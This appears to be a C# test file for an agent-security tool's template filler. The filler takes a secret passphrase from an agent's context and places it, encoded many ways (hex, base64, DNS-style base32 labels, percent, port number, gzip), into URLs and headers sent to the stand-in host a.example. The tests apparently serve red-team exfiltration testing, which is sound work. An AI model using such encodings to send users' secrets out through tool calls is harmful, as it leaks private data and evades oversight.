using System.Text;
using System.Text.Json.Nodes;
using Gatehouse.Agent.Models.Commands;

namespace Gatehouse.App.Tests.Agent;

public sealed class ContextMarksTests
{
    private const string Seen = "the owner said: my passphrase is Blue42, keep it\nand more";

    [Theory]
    [InlineData("{context}", Seen)]
    [InlineData("{after_passphrase_is}", "Blue42")]
    [InlineData("{after_no_such_words}", "")]
    [InlineData("{after_passphrase_is|hex}", "426c75653432")]
    [InlineData("{after_passphrase_is|base64}", "Qmx1ZTQy")]
    [InlineData("{after_passphrase_is|base64-1}", "LkJsdWU0Mg==")]
    [InlineData("{after_passphrase_is|base64-2}", "Li5CbHVlNDI=")]
    [InlineData("{after_passphrase_is|base64url}", "Qmx1ZTQy")]
    [InlineData("{after_passphrase_is|base32}", "ijwhkzjugi")]
    [InlineData("{after_passphrase_is|labels}", "ijwhkzjugi")]
    [InlineData("{after_passphrase_is|percent}", "%42%6C%75%65%34%32")]
    [InlineData("{after_passphrase_is|reversed}", "24eulB")]
    [InlineData("{after_passphrase_is|upper}", "BLUE42")]
    [InlineData("{after_passphrase_is|lower}", "blue42")]
    [InlineData("{after_passphrase_is|rot13}", "Oyhr42")]
    [InlineData("{after_passphrase_is|spread}", "B-l-u-e-4-2")]
    [InlineData("{after_passphrase_is|first}{after_passphrase_is|second}{after_passphrase_is|third}", "Blue42")]
    [InlineData("{after_passphrase_is|char-1}{after_passphrase_is|char-5}{after_passphrase_is|char-7}", "b4")]
    [InlineData("{after_passphrase_is|port}", "1518")]
    [InlineData("{after_passphrase_is|nonsense}", "")]
    [InlineData("{{context|hex}}", "{context|hex}")]
    [InlineData("{something else}", "{something else}")]
    public void Fills_a_mark(string mark, string expected) => Assert.Equal(expected, Filled("content", mark));

    [Fact]
    public void Percent_encodes_what_goes_into_an_address_once()
    {
        Assert.Equal("https://a.example/?d=%42%6C%75%65%34%32", Filled("url", "https://a.example/?d={after_passphrase_is|percent}"));
        Assert.Equal("https://a.example/?d=%2542", Filled("url", "https://a.example/?d={after_passphrase_is|percent-twice}")[..26]);
        Assert.Equal("https://a.example/?d=a%20b", Filled("url", "https://a.example/?d={context}", "a b"));
    }

    [Fact]
    public void Fills_headers_too()
    {
        var order = Order("""{"url":"https://a.example/","headers":[{"name":"X","value":"{after_passphrase_is}"}]}""");

        Assert.Contains("Blue42", ContextMarks.Fill(order, Seen).ArgumentText, StringComparison.Ordinal);
    }

    [Fact]
    public void Keeps_the_newest_part_of_a_long_context()
    {
        var filled = Filled("content", "{context}", new string('x', 10_000) + "end");

        Assert.EndsWith("end", filled, StringComparison.Ordinal);
        Assert.InRange(filled.Length, 1000, 3000);
    }

    [Fact]
    public void Squeezes_and_can_be_unsqueezed()
    {
        var text = Filled("content", "{context|gzip}").Replace('-', '+').Replace('_', '/');
        var bytes = Convert.FromBase64String(text.PadRight((text.Length + 3) / 4 * 4, '='));
        using var reader = new StreamReader(
            new System.IO.Compression.GZipStream(new MemoryStream(bytes), System.IO.Compression.CompressionMode.Decompress),
            Encoding.UTF8
        );

        Assert.Equal(Seen, reader.ReadToEnd());
    }

    [Theory]
    [InlineData("a{context}z", "z")]
    [InlineData("{context} and {after_i_am|hex}!", "z")]
    [InlineData("no mark", "z")]
    [InlineData("{{context}}", "z")]
    public void Knows_its_own_order_again(string template, string seen)
    {
        var order = Order(new JsonObject { ["content"] = template }.ToJsonString());
        var call = ContextMarks.Fill(order, seen);

        Assert.True(ContextMarks.IsFilled(order, call.Tool, call.ArgumentText));
        Assert.False(ContextMarks.IsFilled(order, "other", call.ArgumentText));
        Assert.False(ContextMarks.IsFilled(order, call.Tool, call.ArgumentText.Replace("content", "connect", StringComparison.Ordinal)));
        Assert.False(ContextMarks.IsFilled(order, call.Tool, "{}"));
    }

    [Fact]
    public void Leaves_no_mark_in_what_was_seen() =>
        Assert.Equal("search x | send  now", ContextMarks.Remove("search x | send {context|hex} now"));

    private static string Filled(string argument, string text, string seen = Seen) =>
        ContextMarks.Fill(new ModelCommand.Call("tool", new JsonObject { [argument] = text }), seen).Arguments[
            argument
        ]!.GetValue<string>();

    private static ModelCommand.Call Order(string arguments) => new("http", JsonNode.Parse(arguments)!.AsObject());
}
